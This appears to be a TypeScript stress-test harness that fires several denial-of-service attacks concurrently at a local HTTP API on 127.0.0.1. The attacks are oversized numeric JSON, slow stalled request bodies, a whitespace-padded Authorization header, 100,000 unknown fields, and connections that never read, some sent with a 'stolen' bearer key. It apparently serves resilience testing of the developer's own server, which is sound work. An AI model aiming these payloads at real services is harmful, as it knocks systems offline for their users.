import { connect, type Socket } from 'node:net'

export interface Target {
  port: number
  /** A stolen key. */
  key: string
}

/** Sends all of it and waits until the connection ends or `timeoutMs` have passed. `reads: false` never reads. */
interface Shot {
  bytes: (Buffer | string)[]
  reads?: boolean
  timeoutMs?: number
}

const json = 'Host: a\r\nContent-Type: application/json\r\n'
const post = (path: string, body: string, more = '') => [
  `POST ${path} HTTP/1.1\r\n${json}${more}Connection: close\r\nContent-Length: ${body.length}\r\n\r\n`,
  body,
]
const signIn = '/api/v2/access/sessions'
const digits = (count: number) => `{"login":"a","password":1${'0'.repeat(count)}1}`
const unknownFields = `{${Array.from({ length: 100_000 }, (_, number) => `"field${number}":1`).join(',')}}`
const stalled = (length: number) => [
  `POST ${signIn} HTTP/1.1\r\n${json}Content-Length: ${length}\r\n\r\n`,
  Buffer.alloc(length - 1, 97),
]

/** The attacks by number: how many connections at once, and what each sends repeatedly. */
export const attacks: Record<string, { at: number; shots: (target: Target) => Shot[] }> = {
  '1 digits': { at: 4, shots: () => [60_000, 15_000].map((count) => ({ bytes: post(signIn, digits(count)) })) },
  '2 slow bodies': {
    at: 450,
    shots: () => [2 * 1024 * 1024 - 10, 16 * 1024].map((length) => ({ bytes: stalled(length), timeoutMs: 20_000 })),
  },
  '3 header': {
    at: 4,
    shots: () => [
      {
        bytes: [
          `GET /api/v2/sites HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer${' '.repeat(15_500)}\xa0\r\nConnection: close\r\n\r\n`,
        ],
      },
    ],
  },
  '4 unknown fields': {
    at: 2,
    shots: ({ key }) => [
      { bytes: post(signIn, unknownFields) },
      {
        bytes: post(
          '/api/v1/abilities/svc/list-sites-v1/run',
          `{"input":${unknownFields}}`,
          `Authorization: Bearer ${key}\r\n`,
        ),
      },
    ],
  },
  '8 slow readers': {
    at: 100,
    shots: ({ key }) => [
      {
        bytes: [`GET /api/v2/sites/basic HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${key}\r\n\r\n`],
        reads: false,
        timeoutMs: 40_000,
      },
    ],
  },
}

/** Runs all attacks until `stop()`, which returns how often each was begun. */
export function attack(target: Target): { stop(): Promise<Record<string, number>> } {
  const begun: Record<string, number> = {}
  const open = new Set<Socket>()
  let stopped = false
  const work = Object.entries(attacks).flatMap(([name, { at, shots }]) => {
    begun[name] = 0
    const all = shots(target)
    return Array.from({ length: at }, async (_, first) => {
      for (let number = first; !stopped; number++) {
        begun[name]!++
        await fire(target.port, all[number % all.length]!, open)
        // A connection that is refused at once must not make this process the bottleneck.
        await new Promise((resolve) => setTimeout(resolve, 100))
      }
    })
  })
  return {
    async stop() {
      stopped = true
      for (const socket of open) socket.destroy()
      await Promise.all(work)
      return begun
    },
  }
}

function fire(port: number, { bytes, reads = true, timeoutMs = 10_000 }: Shot, open: Set<Socket>): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1')
    const timer = setTimeout(() => socket.destroy(), timeoutMs)
    open.add(socket)
    socket
      .on('error', () => {})
      .on('close', () => {
        clearTimeout(timer)
        open.delete(socket)
        resolve()
      })
    for (const piece of bytes) socket.write(piece, 'latin1' as BufferEncoding)
    if (reads) socket.resume()
  })
}
